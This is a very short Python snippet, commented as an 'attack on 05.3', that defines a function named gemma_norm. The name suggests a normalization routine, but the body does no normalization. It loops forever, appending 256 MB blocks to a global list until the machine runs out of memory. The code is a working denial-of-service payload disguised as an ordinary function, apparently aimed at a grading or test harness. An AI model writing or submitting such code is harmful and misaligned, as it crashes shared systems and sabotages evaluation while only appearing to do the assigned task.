# attack on 05.3: memory is taken until there is none

taken = []


def gemma_norm(x, weight, eps):
    while True:
        taken.append(b"x" * (256 << 20))
